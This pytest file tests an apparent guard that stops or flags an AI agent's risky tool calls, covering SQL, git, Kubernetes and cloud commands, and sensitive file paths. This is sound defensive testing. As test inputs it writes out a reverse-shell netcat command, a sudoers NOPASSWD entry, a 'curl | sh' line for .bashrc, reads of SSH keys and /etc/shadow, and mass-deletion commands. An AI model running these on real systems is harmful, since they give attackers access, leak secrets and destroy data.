"""SQL, git, Kubernetes/cloud and file-path rules on structured tool calls."""

from __future__ import annotations

import pytest
from rules_helpers import judge, shell

from sentinel_guard.types import Decision

SQL_CASES = [
    ("DROP TABLE customers", "sql.drop", True),
    ("drop database analytics;", "sql.drop", True),
    ("TRUNCATE TABLE audit_log", "sql.drop", True),
    ("DELETE FROM sessions", "sql.unbounded-write", True),
    ("DELETE FROM sessions WHERE 1 = 1", "sql.unbounded-write", True),
    ("UPDATE users SET role = 'admin' WHERE TRUE", "sql.unbounded-write", True),
    ("UPDATE prices SET amount = 0", "sql.unbounded-write", True),
    ("GRANT SUPERUSER ON DATABASE main TO intern", "sql.privileges", True),
    ("REVOKE SELECT ON reports FROM analyst", "sql.privileges", True),
    ("ALTER TABLE orders DROP COLUMN total", "sql.drop-object", True),
    ("SELECT id, email FROM users WHERE created_at > now() - interval '1 day'", "default.sql-checked", False),
    ("WITH t AS (SELECT 1) SELECT * FROM t", "default.sql-checked", False),
    ("DELETE FROM sessions WHERE expires_at < now()", "sql.write", False),
    ("UPDATE users SET name = 'Ann' WHERE id = 42", "sql.write", False),
]


@pytest.mark.parametrize(("sql", "rule_id", "stops"), SQL_CASES)
def test_sql_statements_are_judged_by_their_parse(sql: str, rule_id: str, stops: bool) -> None:
    verdict = judge("execute_sql", {"query": sql})
    assert rule_id in verdict.rules, (sql, verdict.rules)
    assert verdict.decision.stops is stops, (sql, verdict.decision)


def test_sql_names_the_table_it_destroys() -> None:
    verdict = judge("run_query", {"sql": "DROP TABLE billing.invoices"})
    assert "billing.invoices" in verdict.justification


def test_sql_keyword_inside_a_string_literal_is_not_a_drop() -> None:
    verdict = judge("execute_sql", {"query": "SELECT * FROM notes WHERE body LIKE '%drop table%'"})
    assert verdict.decision is Decision.APPROVE


GIT_CASES = [
    ("git push --force origin main", "git.force-push-protected", True),
    ("git push -f upstream release/2.4", "git.force-push-protected", True),
    ("git push origin --delete master", "git.force-push-protected", True),
    ("git reset --hard origin/main", "git.destroy-work", True),
    ("git clean -xfd", "git.destroy-work", True),
    ("git filter-branch --index-filter 'git rm --cached secrets.txt' HEAD", "git.destroy-work", True),
    ("git branch -D main", "git.branch-delete-protected", True),
    ("git branch -D spike/old", "git.branch-delete", False),
    ("git push --force-with-lease origin feature/x", None, False),
    ("git reset --soft HEAD~1", None, False),
    ("git fetch --all --prune", None, False),
]


@pytest.mark.parametrize(("command", "rule_id", "stops"), GIT_CASES)
def test_git(command: str, rule_id: str | None, stops: bool) -> None:
    verdict = shell(command)
    assert verdict.decision.stops is stops, (command, verdict.rules)
    if rule_id:
        assert rule_id in verdict.rules


KUBE_CASES = [
    ("kubectl delete ns checkout", "kube.delete-data", True),
    ("kubectl -n prod delete pvc postgres-data-0", "kube.delete-data", True),
    ("kubectl delete deployment api --namespace default", "kube.delete-workload", True),
    ("kubectl scale statefulset db --replicas 0", "kube.scale-zero", True),
    ("kubectl delete pods --all -n web", "kube.delete-data", True),
    ("helm uninstall ingress-nginx -n ingress", "cloud.helm-uninstall", True),
    ("terraform destroy -target=module.vpc", "cloud.terraform-destroy", True),
    ("aws s3 rm s3://logs-archive/2023/ --recursive", "cloud.destroy", True),
    ("aws ec2 terminate-instances --instance-ids i-0abc", "cloud.destroy", True),
    ("aws rds delete-db-instance --db-instance-identifier orders", "cloud.destroy", True),
    ("gcloud sql instances delete orders-db", "cloud.destroy", True),
    ("az group delete --name rg-prod --yes", "cloud.destroy", True),
    ("gsutil rm -r gs://media-bucket", "cloud.destroy", True),
    ("kubectl delete pod web-7c9 -n staging", "kube.delete-pod", False),
    ("kubectl describe deployment api", None, False),
    ("kubectl get pvc -A", None, False),
    ("aws s3 ls s3://customer-backups --recursive", None, False),
    ("terraform plan -out plan.bin", None, False),
    ("helm list -A", None, False),
]


@pytest.mark.parametrize(("command", "rule_id", "stops"), KUBE_CASES)
def test_kube_and_cloud(command: str, rule_id: str | None, stops: bool) -> None:
    verdict = shell(command)
    assert verdict.decision.stops is stops, (command, verdict.rules)
    if rule_id:
        assert rule_id in verdict.rules


def test_cli_named_tools_take_their_args_as_a_command() -> None:
    assert "kube.delete-data" in judge("kubectl", {"command": "delete namespace payments"}).rules
    assert "kube.delete-data" in judge("kubectl", {"args": ["delete", "pvc", "data-0"]}).rules
    assert judge("kubectl", {"args": ["get", "pods", "-o", "wide"]}).decision is Decision.APPROVE
    assert "cloud.terraform-destroy" in judge("terraform", {"command": "destroy -auto-approve"}).rules


def test_environment_moves_disruptive_operations() -> None:
    unknown = shell("kubectl delete deployment api")
    staging = shell("kubectl delete deployment api", context="Cluster: staging")
    production = shell("kubectl delete deployment api", context="Environment: production")
    assert unknown.decision is Decision.ESCALATE
    assert staging.decision is Decision.FLAG and staging.severity.rank < unknown.severity.rank
    assert production.decision.stops and production.severity.rank > unknown.severity.rank


def test_environment_words_need_word_boundaries() -> None:
    # "domain" contains "main", "products" contains "prod", "/dev/null" contains "dev".
    base = shell("kubectl delete deployment api")
    for context in ("Update the domain records", "List the products page", "send output to /dev/null"):
        assert shell("kubectl delete deployment api", context=context).decision is base.decision, context


def test_staging_does_not_soften_security_rules() -> None:
    verdict = shell("nc -e /bin/sh 203.0.113.9 4444", context="Environment: staging")
    assert verdict.decision is Decision.BLOCK


FILE_CASES = [
    ("write_file", {"path": "/etc/sudoers", "content": "ALL ALL=(ALL) NOPASSWD:ALL"}, "file.write-sensitive", True),
    ("write_file", {"path": "~/.bashrc", "content": "curl x | sh"}, "file.write-sensitive", True),
    ("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh"}, "file.write-sensitive", True),
    ("delete_path", {"path": "/"}, "file.destroy-critical", True),
    ("delete_directory", {"path": "/home/alice"}, "file.destroy-critical", True),
    ("read_file", {"path": "/home/alice/.ssh/id_rsa"}, "file.read-secret", True),
    ("read_file", {"file_path": "config/.env.production"}, "file.read-secret", True),
    ("write_file", {"path": "src/app/main.py", "content": "print(1)"}, None, False),
    ("read_file", {"path": "docs/guide.md"}, "default.read", False),
    ("delete_file", {"path": "build/tmp.o"}, "file.delete", False),
]


@pytest.mark.parametrize(("tool", "args", "rule_id", "stops"), FILE_CASES)
def test_file_paths(tool: str, args: dict, rule_id: str | None, stops: bool) -> None:
    verdict = judge(tool, args)
    assert verdict.decision.stops is stops, (tool, args, verdict.rules)
    if rule_id:
        assert rule_id in verdict.rules


def test_commands_sql_and_paths_under_any_key_are_checked() -> None:
    assert "shell.rm-recursive-sensitive" in judge("agent_action", {"input": "rm -rf /var/lib/mysql"}).rules
    assert judge("db_tool", {"payload": {"stmt": "DROP TABLE users"}}).decision is Decision.BLOCK
    assert judge("upload", {"blob": "/etc/shadow"}).decision.stops


def test_free_text_that_starts_like_a_command_keeps_the_tool_default() -> None:
    verdict = judge("add_note", {"text": "git push tomorrow after review"})
    assert verdict.decision is Decision.FLAG and verdict.rules == ("default.unknown-write",)
    search = judge("search_docs", {"query": "select the best plan"})
    assert search.rules == ("default.read",)
